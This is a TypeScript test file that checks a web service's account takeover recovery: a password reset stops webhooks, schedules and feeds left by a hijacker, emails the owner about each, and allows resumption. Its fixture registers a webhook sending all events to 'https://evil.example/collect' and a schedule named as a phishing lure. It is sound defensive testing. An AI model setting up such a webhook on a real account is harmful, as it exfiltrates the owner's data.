import { Webhook } from "standardwebhooks";
import { describe, expect, test } from "vitest";
import { dashboardSuite, type Visitor } from "../../test/support/dashboard/dashboard.ts";
import { withAccounts } from "../app/open-accounts.ts";
import { delegatedKinds, passiveTables } from "./delegated-kinds.ts";
import type { Delegated } from "./types.ts";

const { visitor, address, config } = dashboardSuite();
const OPERATION = "/api/nlretail/products/search";

test("every table that belongs to accounts is listed either as acting by itself or as passive", async () => {
  const tables = await withAccounts(config(), ({ store }) => store.db.introspection.getTables());
  const owned = tables
    .filter(({ columns }) => columns.some(({ name }) => ["account_id", "user_id", "person_id"].includes(name)))
    .map(({ name }) => name);
  const acting = new Set(Object.values(delegatedKinds).flatMap(({ table, also = [] }) => [table, ...also]));
  // A new table goes into `delegated-kinds.ts`: either as a kind, with whoever made its rows, or as passive.
  expect(owned.sort()).toEqual([...acting, ...Object.values(passiveTables).flat()].sort());
});

/** Everything a hijacker could set up in a session of the account. */
async function setUp(hijacker: Visitor, email: string) {
  const { api_key: key } = await hijacker.signUp(email);
  await hijacker.confirm(email);
  const headers = { "access-token": key, "content-type": "application/json" };
  const secret = async () => (await (await fetch(`${address()}/webhooks/secret`, { headers })).json()) as object;
  const { body: webhook } = await hijacker.post("/webhooks", { url: "https://evil.example/collect", events: null });
  const { body: schedule } = await hijacker.post("/schedules", {
    name: "Log in at https://evil.example now",
    operation: OPERATION,
    cron: "0 7 * * *",
    time_zone: "UTC",
    request: { keyword: "lamp", count: 1 },
  });
  return { key, webhook, schedule, secret };
}

async function reset(owner: Visitor, email: string, more: object): Promise<Delegated[]> {
  await owner.post("/password/forgot", { email });
  const token = await owner.tokenTo(email, "Choose a new password");
  const { status, body } = await owner.post("/password/reset", { token, password: "the owner's new one", ...more });
  expect(status).toBe(200);
  await owner.post("/sign-in", { email, password: "the owner's new one" });
  return body.review;
}

describe("a password reset", () => {
  test("stops the webhooks, schedules and feeds that anyone set up in the account, and reports each to its owner", async () => {
    const [email, hijacker, owner] = ["ada@people.example", visitor(), visitor()];
    const { webhook, schedule, secret } = await setUp(hijacker, email);
    const feed = `${address()}/schedules/${schedule.id}/feed/${schedule.feed_secret}`;
    const [before, feedBefore] = [await secret(), (await fetch(feed)).status];
    const review = await reset(owner, email, { revoke_keys: false });
    expect(review.map(({ kind, state }) => `${kind} ${state}`)).toEqual([
      "api_key active",
      "webhook stopped",
      "schedule stopped",
      "feed ended",
    ]);
    const left = review.filter(({ state }) => state !== "ended");
    expect((await owner.get("/access")).body.access).toEqual(left);
    expect([feedBefore, (await fetch(feed)).status]).toEqual([200, 404]);
    expect(await secret()).not.toEqual(before);
    const [found] = (await owner.get("/webhooks")).body;
    expect(found).toMatchObject({
      id: webhook.id,
      status: "disabled",
      disabled_reason: expect.stringMatching(/reset/),
    });
    const mail = await owner.mailTo(email, "The password of your account was changed");
    expect(mail.text).toMatch(/\n- Webhook to evil\.example, created \d{4}-\d\d-\d\d: stopped\n/);
    expect(mail.text).toMatch(/\n- Schedule Log in at https evil example now, .*: stopped\n/);
    expect(mail.text).toContain("- API key First key");
  });

  test("lets the owner resume each with one click, with a new signing secret and a live key", async () => {
    const [email, owner] = ["bea@people.example", visitor()];
    const { webhook, schedule } = await setUp(visitor(), email);
    const review = await reset(owner, email, {});
    expect(review[0]).toMatchObject({ kind: "api_key", state: "ended" });
    const enabled = await owner.post(`/webhooks/${webhook.id}/enable`);
    expect(enabled.body).toMatchObject({ status: "active", disabled_reason: null });
    const { body: rotated } = await owner.post(`/webhooks/${webhook.id}/rotate`, { overlap_seconds: 0 });
    expect(() => new Webhook(rotated.secret)).not.toThrow();
    const made = await owner.post("/keys", {
      name: "Mine",
      usage_context: "standard",
      sources: null,
      spending_cap: null,
      expires_in_days: null,
    });
    expect(made.status).toBe(200);
    expect((await owner.post(`/schedules/${schedule.id}/resume`)).body).toMatchObject({ status: "active" });
    await owner.post(`/schedules/${schedule.id}/run`);
    const lastRun = async () => (await owner.get(`/schedules/${schedule.id}`)).body.last_run?.status;
    await expect.poll(lastRun, { timeout: 20_000 }).toBe("succeeded");
  });

  test("reveals nothing of the account to someone with only the mailbox when a second factor is set up", async () => {
    const [email, owner] = ["cleo@people.example", visitor()];
    await setUp(owner, email);
    await withAccounts(config(), ({ store }) =>
      store.db.updateTable("people").set({ two_factor_enabled: true }).where("email", "=", email).execute(),
    );
    expect(await reset(visitor(), email, {})).toEqual([]);
  });
});
